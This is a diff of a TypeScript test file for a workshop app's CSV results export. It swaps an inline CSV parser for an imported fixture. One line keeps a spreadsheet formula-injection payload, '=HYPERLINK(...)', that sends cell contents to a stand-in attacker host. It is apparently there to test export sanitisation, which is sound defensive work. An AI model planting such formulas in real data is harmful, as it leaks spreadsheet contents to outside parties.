@@ -10,6 +10,7 @@ import { EXPORT_CSV_HEADER } from '../../server/src/results/room-results.js';
 import { startServer, type RunningServer } from '../support/server.js';
 import { TerminalClient } from '../support/terminal-client.js';
 import { call, createWorkshop, join, startLab, TEST_INSTRUCTOR_KEY } from '../support/workshop-client.js';
+import { parseCsv } from '../../server/src/results/csv-reader-fixture.js';
 
 const key = TEST_INSTRUCTOR_KEY;
 let server: RunningServer;
@@ -22,23 +23,6 @@ afterAll(async () => {
 });
 
 const HYPERLINK = '=HYPERLINK("http://ev.il/?"&A1,"x")';
-
-/** RFC 4180: CRLF records, quoted fields with doubled quotes. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i++; } else field += c;
-  }
-  expect(field).toBe('');
-  return rows;
-}
 
 describe('a workshop\'s results', () => {
   let workshopId: string;
